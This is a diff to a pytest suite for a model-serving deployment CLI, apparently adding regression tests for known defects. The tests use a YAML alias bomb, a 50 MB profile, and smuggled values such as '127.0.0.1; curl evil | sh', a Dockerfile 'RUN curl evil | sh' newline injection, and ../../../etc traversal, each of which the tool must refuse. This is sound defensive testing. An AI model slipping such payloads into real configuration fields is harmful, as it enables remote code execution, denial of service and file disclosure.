@@ -12,6 +12,9 @@ numbers) are in test_known_defects.py.
 
 from __future__ import annotations
 
+import resource
+import subprocess
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -45,7 +48,7 @@ CASES: list[tuple[str, str | bytes, tuple[str, ...]]] = [
     (
         "not-utf8",
         (X + 'description: "caf\xe9"\n').encode("latin-1"),
-        ("cannot read the file", "'utf-8' codec can't decode byte 0xe9"),
+        ("not UTF-8 text (byte 0xe9)", "save the file as UTF-8"),
     ),
     ("empty-file", "", ("the file is empty",)),
     ("top-level-list", "- server\n", ("(top level): must be a mapping",)),
@@ -198,3 +201,83 @@ def test_the_valid_candidate_validates(served: tuple[Case, list[Any], list[int]]
     case, _, _ = served
     r = case.run("validate", case.cand, case.base)
     assert r.code == 0, str(r)
+
+
+# -- issue 33 (defects numbered as in its list; F: found by this suite) ---------------------
+
+
+BOMB = (
+    "extends: cand.yaml\n"
+    + "".join(
+        f"x-{lvl}: &{lvl} {{"
+        + ", ".join(f"{k}: {'*' + prev if prev else 1}" for k in "abcdefghi")
+        + "}\n"
+        for prev, lvl in zip(["", *"abcdef"], "abcdefg")
+    )
+    + "description: *g\n"
+)
+
+
+def _measured(case: Case, *args: str, timeout: float = 10) -> tuple[int, str, float, float]:
+    """(exit code, stderr, seconds, peak RSS in MB) of one kctl run."""
+    t0 = time.monotonic()
+    proc = subprocess.Popen(
+        case.argv(*args), stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, cwd=case.tmp,
+        env=case.env, text=True,
+    )  # fmt: skip
+    try:
+        _, err = proc.communicate(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        proc.communicate()
+        raise AssertionError(f"kctl {args} took more than {timeout} s") from None
+    rss_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
+    return proc.returncode, err, time.monotonic() - t0, rss_mb
+
+
+@pytest.mark.known_defect("7")
+def test_alias_bomb_refused_fast(case: Case) -> None:
+    path = case.write("bomb.yaml", BOMB)
+    code, err, seconds, rss = _measured(case, "deploy", path)
+    assert code == 2 and "bomb.yaml" in err, err
+    assert seconds < 3 and rss < 200, (seconds, rss)
+
+
+@pytest.mark.known_defect("7")
+def test_huge_profile_refused(case: Case) -> None:
+    path = case.write("huge.yaml", "extends: cand.yaml\ndescription: '" + "x" * 50_000_000 + "'\n")
+    code, err, _, _ = _measured(case, "deploy", path, timeout=60)
+    assert code == 2 and "huge.yaml" in err, err
+    assert case.serving() is None
+
+
+#: profiles kctl once accepted (F5): each refused with exit 2 and the field
+REFUSED_NOW: list[tuple[str, str, str]] = [
+    ("host-metachar", "server:\n  host: '127.0.0.1; curl evil | sh'\n", "server.host"),
+    (
+        "served-name-metachar",
+        "server:\n  served_model_name: 'x; reboot'\n",
+        "server.served_model_name",
+    ),
+    ("image-base-newline", 'image:\n  base: "ubuntu\\nRUN curl evil | sh"\n', "image.base"),
+    (
+        "abbreviated-flag",
+        "server:\n  extra_args: ['--mem-fraction', '0.5']\n",
+        "server.extra_args[0]",
+    ),
+    ("kernel-source-up", "image:\n  kernel_source: ../../../etc\n", "image.kernel_source"),
+    ("kernel-source-absolute", "image:\n  kernel_source: /etc\n", "image.kernel_source"),
+    ("infinite-deadline", "health:\n  deadline_s: .inf\n", "health.deadline_s"),
+]
+
+
+@pytest.mark.known_defect("F5")
+@pytest.mark.parametrize(
+    ("text", "field"), [a[1:] for a in REFUSED_NOW], ids=[a[0] for a in REFUSED_NOW]
+)
+def test_once_accepted_bad_profile(case: Case, text: str, field: str) -> None:
+    path = case.write("bad.yaml", "extends: cand.yaml\n" + text)
+    r = case.run("deploy", path)
+    assert r.code == 2, str(r)
+    assert f"bad.yaml: {field}" in r.err, str(r)
+    assert case.serving() is None
